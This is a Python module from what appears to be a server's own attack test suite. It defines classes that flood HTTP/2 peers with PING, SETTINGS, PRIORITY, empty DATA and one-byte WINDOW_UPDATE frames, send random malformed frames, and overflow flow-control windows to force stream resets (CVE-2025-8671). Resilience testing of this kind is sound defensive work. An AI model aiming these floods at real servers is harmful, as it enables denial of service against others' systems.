"""Attacks by frames that cost a peer nothing, and by frames that no peer may send."""

import os
import random
from collections.abc import Callable

from tests.attack.attack import GET_META_POLICY, UPLOAD, Aim, Connected
from tests.support.faults.http2_frames import (
    DATA,
    END_STREAM,
    PING,
    PRIORITY,
    SETTINGS,
    WINDOW_UPDATE,
    RawPeer,
    frame,
    request_block,
    settings,
)


class PingFlood(Connected):
    """Sends pings."""

    about = "PING frames, each of which asks for an answer"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        return lambda: peer.send(frame(PING, payload=bytes(8)) * 500)


class UnreadPings(Connected):
    """Sends pings, and reads no answer."""

    about = "PING and SETTINGS frames whose answers are not read"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        peer.read = lambda seconds=0.0: None  # type: ignore[method-assign]
        return lambda: peer.send((frame(PING, payload=bytes(8)) + settings(header_table_size=4096)) * 500)


class SettingsFlood(Connected):
    """Sends settings."""

    about = "SETTINGS frames, with header tables that change their size"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        both = settings(header_table_size=0) + settings(header_table_size=4096, initial_window_size=65535)
        return lambda: peer.send(both * 200)


class PriorityFlood(Connected):
    """Sends priorities of streams that do not exist."""

    about = "PRIORITY frames of streams that never begin"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        return lambda: peer.send(*(frame(PRIORITY, peer.next_stream(), b"\0\0\0\0\1") for _ in range(500)))


class EmptyData(Connected):
    """Sends empty frames of data."""

    about = "empty DATA frames on one upload"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        stream = peer.start(request_block(UPLOAD))
        return lambda: peer.send(frame(DATA, stream) * 1000)


class WindowUpdates(Connected):
    """Widens the window a byte at a time."""

    about = "WINDOW_UPDATE frames of one byte"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        return lambda: peer.send(frame(WINDOW_UPDATE, 0, (1).to_bytes(4, "big")) * 1000)


class WindowOverflow(Connected):
    """Widens windows beyond what is allowed, so that the server itself resets the streams (CVE-2025-8671)."""

    about = "windows that overflow: the server must reset each stream"
    computes = True

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        block = request_block(GET_META_POLICY)
        widened = (2**31 - 1).to_bytes(4, "big")

        def overflow() -> None:
            for _ in range(50):
                stream = peer.start(block)
                peer.send(frame(WINDOW_UPDATE, stream, widened) * 2)

        return overflow


class InvalidFrames(Connected):
    """Sends frames of random kinds, flags, streams and contents."""

    about = "random frames, on streams that exist and on others"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        rng = random.Random(peer.socket.getsockname()[1])
        peer.start(request_block(UPLOAD))

        def send() -> None:
            kind = rng.choice((*range(10), 255))
            length = rng.choice((0, 1, 4, 5, 6, 8, 100, 16384, 70000))
            peer.send(frame(kind, rng.choice((0, 1, 2, 3, 2**31 - 1)), os.urandom(length), rng.randrange(256)))

        return send


class EmptyMessages(Connected):
    """Calls with messages of no length, as fast as it can."""

    about = "calls with empty messages, as many as the peer can"
    computes = True

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        block = request_block(GET_META_POLICY)

        def call() -> None:
            for _ in range(20):
                peer.send(frame(DATA, peer.start(block), b"\0\0\0\0\0", END_STREAM))
            peer.read(0.05)

        return call


class AcknowledgedSettings(Connected):
    """Acknowledges settings that the server did not send."""

    about = "unrequested SETTINGS acknowledgments"

    def begin(self, aim: Aim, peer: RawPeer) -> Callable[[], None]:
        return lambda: peer.send(frame(SETTINGS, flags=1) * 1000)
